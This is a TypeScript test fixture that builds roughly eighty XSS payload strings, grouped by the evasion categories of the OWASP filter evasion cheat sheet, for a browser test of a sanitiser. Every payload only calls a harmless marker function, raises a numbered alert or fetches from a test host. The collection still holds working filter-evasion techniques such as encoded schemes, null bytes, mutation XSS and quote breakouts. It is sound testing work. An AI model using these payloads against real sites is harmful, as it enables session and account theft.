// Hostile strings for the XSS browser test, after the categories of the OWASP XSS Filter
// Evasion Cheat Sheet (written for this project). Each one, if it ever ran, would call
// window.__xss(id), raise a dialog carrying its id, or fetch from MARKER_HOST: the test
// listens for all three. Ids are 1..n in list order.

export const MARKER_HOST = 'xss.test';
const marker = (id: number) => `http://${MARKER_HOST}/${id}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');
const decimal = (s: string, pad = 0) =>
  [...s].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}${pad ? '' : ';'}`).join('');
const hex = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join('');
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(',');

export interface Payload {
  id: number;
  category: string;
  text: string;
}

type Maker = [category: string, make: (call: string, id: number) => string];

// `call` is `__xss(id)`; payloads that would run in another origin (data: frames) use alert(id).
const makers: Maker[] = [
  ['script tag', (c) => `<script>${c}</script>`],
  ['script src', (_, id) => `<SCRIPT SRC=${marker(id)}.js></SCRIPT>`],
  ['mixed case', (c) => `<ScRiPt>${c}</sCrIpT>`],
  ['non-alpha tag name', (_, id) => `<SCRIPT/XSS SRC="${marker(id)}.js"></SCRIPT>`],
  ['extra open brackets', (c) => `<<SCRIPT>${c}//<</SCRIPT>`],
  ['unclosed script', (_, id) => `<SCRIPT SRC=//${MARKER_HOST}/${id}.js?< B >`],
  ['nested strip evasion', (c) => `<scr<script>ipt>${c}</scr</script>ipt>`],
  ['img onerror', (c) => `<img src=x onerror=${c}>`],
  ['img javascript: src', (c) => `<IMG SRC="javascript:${c};">`],
  ['img unquoted javascript:', (c) => `<IMG SRC=javascript:${c}>`],
  ['img mixed-case scheme', (c) => `<IMG SRC=JaVaScRiPt:${c}>`],
  ['grave accents', (c) => `<IMG SRC=\`javascript:${c}\`>`],
  ['malformed img', (c) => `<IMG """><SCRIPT>${c}</SCRIPT>">`],
  ['fromCharCode', (c) => `<IMG SRC=javascript:eval(String.fromCharCode(${charCodes(c)}))>`],
  ['img onmouseover', (c) => `<IMG SRC=# onmouseover="${c}">`],
  ['img self-closing onerror', (c) => `<IMG SRC=/ onerror="${c}"></img>`],
  ['eval of attribute', (_, id) => `<img src=x:alert(alt) onerror=eval(src) alt=${id}>`],
  ['decimal entities', (c) => `<IMG SRC=${decimal('javascript:')}${c}>`],
  ['padded decimal, no semicolons', (c) => `<IMG SRC=${decimal('javascript:', 7)}${c}>`],
  ['hex entities, no semicolons', (c) => `<IMG SRC=${hex('javascript:')}${c}>`],
  ['embedded tab', (c) => `<IMG SRC="jav\tascript:${c};">`],
  ['encoded tab', (c) => `<IMG SRC="jav&#x09;ascript:${c};">`],
  ['encoded newline', (c) => `<a href="jav&#x0A;ascript:${c}">nl</a>`],
  ['encoded carriage return', (c) => `<a href="jav&#x0D;ascript:${c}">cr</a>`],
  ['null byte in scheme', (c) => `<IMG SRC=java\u0000script:${c}>`],
  ['null byte in tag', (c) => `<scri\u0000pt>${c}</scri\u0000pt>`],
  ['spaces and meta chars before scheme', (c) => `<a href=" &#14;  javascript:${c};">sp</a>`],
  ['non-alpha attribute soup', (c) => `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${c}>`],
  ['svg onload', (c) => `<svg onload=${c}>`],
  ['svg slash onload', (c) => `<svg/onload=${c}>`],
  ['svg script', (c) => `<svg><script>${c}</script></svg>`],
  ['svg xlink href', (c) => `<svg><a xlink:href="javascript:${c}"><text x="9" y="9">go</text></a></svg>`],
  ['svg animate onbegin', (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`],
  ['math mXSS', (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`],
  ['noscript mXSS', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`],
  ['comment breakout', (c) => `<!--<img src="--><img src=x onerror=${c}//">`],
  ['CDATA', (c) => `<![CDATA[<script>${c}</script>]]>`],
  ['iframe javascript:', (c) => `<iframe src="javascript:parent.${c}"></iframe>`],
  ['iframe srcdoc', (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`],
  ['iframe marker src', (_, id) => `<iframe src="${marker(id)}"></iframe>`],
  ['object data:', (_, id) => `<object data="data:text/html;base64,${b64(`<script>alert(${id})</script>`)}"></object>`],
  ['object javascript:', (c) => `<object data="javascript:${c}"></object>`],
  ['embed data:', (_, id) => `<embed src="data:text/html;base64,${b64(`<script>alert(${id})</script>`)}">`],
  ['meta refresh javascript:', (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`],
  ['meta refresh marker', (_, id) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=${marker(id)}">`],
  ['base href', (_, id) => `<base href="${marker(id)}/">`],
  ['link stylesheet', (_, id) => `<link rel="stylesheet" href="${marker(id)}.css">`],
  ['style @import', (_, id) => `<style>@import '${marker(id)}.css';</style>`],
  ['style url javascript:', (c) => `<div style="background-image:url(javascript:${c})">bg</div>`],
  ['style expression', (c) => `<div style="width:expression(${c})">ex</div>`],
  ['list-style-image', (c) => `<STYLE>li {list-style-image: url("javascript:${c}");}</STYLE><UL><LI>li</UL>`],
  ['a javascript:', (c) => `<a href="javascript:${c}">click</a>`],
  ['a mixed-case javascript:', (c) => `<a href="JaVaScRiPt:${c}">click</a>`],
  ['a hex-entity scheme', (c) => `<a href="&#x6A;avascript:${c}">click</a>`],
  ['a named-entity colon', (c) => `<a href="javascript&colon;${c}">click</a>`],
  ['a leading whitespace', (c) => `<a href="  javascript:${c}">click</a>`],
  ['a data: html', (_, id) => `<a href="data:text/html;base64,${b64(`<script>alert(${id})</script>`)}">data</a>`],
  ['a vbscript:', (_, id) => `<a href="vbscript:msgbox(${id})">vb</a>`],
  ['double-quote breakout', (c) => `"><script>${c}</script>`],
  ['single-quote breakout', (c) => `'><img src=x onerror=${c}>`],
  ['event attribute breakout', (c) => `" autofocus onfocus="${c}" x="`],
  ['textarea breakout', (c) => `</textarea><script>${c}</script>`],
  ['title breakout', (c) => `</title><script>${c}</script>`],
  ['style breakout', (c) => `</style><script>${c}</script>`],
  ['angular template', (c) => `{{constructor.constructor('${c}')()}}`],
  ['template literal', (c) => `\${${c}}#{${c}}`],
  ['markdown link', (c) => `[click](javascript:${c})`],
  ['markdown image breakout', (c) => `![x](x" onerror="${c})`],
  ['details ontoggle', (c) => `<details open ontoggle=${c}>`],
  ['input autofocus', (c) => `<input autofocus onfocus=${c}>`],
  ['body onload', (c) => `<body onload=${c}>`],
  ['video source onerror', (c) => `<video><source onerror="${c}"></video>`],
  ['audio onerror', (c) => `<audio src=x onerror=${c}>`],
  ['form action', (c) => `<form action="javascript:${c}"><button>go</button></form>`],
  ['button formaction', (c) => `<button formaction="javascript:${c}">go</button>`],
  ['table background', (c) => `<table background="javascript:${c}"><tr><td>t</td></tr></table>`],
  ['marquee onstart', (c) => `<marquee onstart=${c}>m</marquee>`],
  ['custom tag handler', (c) => `<xss onafterscriptexecute=${c}><script>1</script>`],
  ['url-encoded', (c) => encodeURIComponent(`<script>${c}</script>`)],
  ['bare javascript: URL', (c) => `javascript:${c}`],
];

export const payloads: Payload[] = makers.map(([category, make], i) => ({
  id: i + 1,
  category,
  text: make(`__xss(${i + 1})`, i + 1),
}));

/** Payloads that fit a field of at most `max` characters (and, with noControl, carry no control characters). */
export function fitting(max: number, { noControl = false } = {}): Payload[] {
  return payloads.filter(
    (p) => p.text.length <= max && !(noControl && /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/.test(p.text)),
  );
}
